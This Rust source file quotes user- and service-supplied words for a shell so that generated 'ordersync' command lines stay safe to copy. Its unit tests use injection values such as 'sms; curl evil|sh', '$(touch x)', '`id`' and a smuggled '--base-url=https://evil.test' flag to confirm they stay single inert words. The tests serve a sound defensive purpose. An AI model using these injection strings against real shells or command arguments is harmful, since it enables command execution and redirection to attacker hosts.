//! Commands to copy: one line, every word quoted for a POSIX shell. Ids, names and addresses come from services and users,
//! and must stay one word whatever is in them.

/// One word for a shell.
pub(crate) fn quoted(word: &str) -> String {
    // No argument of a program can hold a NUL.
    let word = word.replace('\0', "");
    shlex::try_quote(&word).map_or_else(|_| "''".to_owned(), std::borrow::Cow::into_owned)
}

/// The arguments of `ordersync`: a text of our own (`auth login`), or words, some of which came from outside.
pub(crate) trait Arguments {
    /// As they are typed.
    fn typed(self) -> Typed;
}

/// Arguments as they are typed.
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct Typed {
    /// The words, quoted.
    pub line: String,
    /// Words that begin with a dash and are no flag: they are typed after `--`, behind every flag.
    pub operands: String,
}

impl Arguments for Typed {
    fn typed(self) -> Typed {
        self
    }
}

/// Only a constant may hold several words: text from outside is quoted.
impl Arguments for &'static str {
    fn typed(self) -> Typed {
        Typed { line: self.to_owned(), operands: String::new() }
    }
}

impl<const N: usize> Arguments for [&str; N] {
    fn typed(self) -> Typed {
        self.as_slice().typed()
    }
}

impl Arguments for &[&str] {
    fn typed(self) -> Typed {
        let (mut words, mut operands) = (Vec::new(), Vec::new());
        for word in self {
            if word.starts_with('-') && !is_flag(word) { operands.push(quoted(word)) } else { words.push(quoted(word)) }
        }
        Typed { line: words.join(" "), operands: operands.join(" ") }
    }
}

/// `--req-id`, and never `--base-url=https://elsewhere`.
fn is_flag(word: &str) -> bool {
    let name = word.strip_prefix("--").unwrap_or_default();
    word == "-" || (!name.is_empty() && name.bytes().all(|letter| letter.is_ascii_lowercase() || letter == b'-'))
}

/// The command line of `ordersync` with these arguments, and `more` flags behind them.
pub(crate) fn command(arguments: impl Arguments, more: &[(&str, &str)]) -> String {
    let typed = arguments.typed();
    let mut line = format!("ordersync {}", typed.line);
    for (flag, value) in more {
        line.push_str(&format!(" {flag} {}", quoted(value)));
    }
    if !typed.operands.is_empty() {
        line.push_str(&format!(" -- {}", typed.operands));
    }
    line
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_word_from_outside_stays_one_word() {
        for word in ["sms; curl evil|sh", "$(touch x)", "it's", "a\nb", "", "--", "Café", "`id`", "\"", "a\0b"] {
            let line = command(["mfa", "--option", word], &[("--profile", "my shop")]);
            let words = shlex::split(&line).expect("words");
            let bare = word.replace('\0', "");
            assert!(words.contains(&bare), "{line}");
            assert!(words.ends_with(&["--profile".into(), "my shop".into()]) || words.last() == Some(&bare), "{line}");
        }
        assert_eq!(command(["fix", "conn_1"], &[]), "ordersync fix conn_1");
        assert_eq!(command("connect --retailer ID|NAME", &[]), "ordersync connect --retailer ID|NAME");
    }

    #[test]
    fn an_id_that_looks_like_a_flag_is_none() {
        let line = command(["fix", "--base-url=https://evil.test"], &[("--profile", "p")]);
        assert_eq!(line, "ordersync fix --profile p -- '--base-url=https://evil.test'");
    }
}
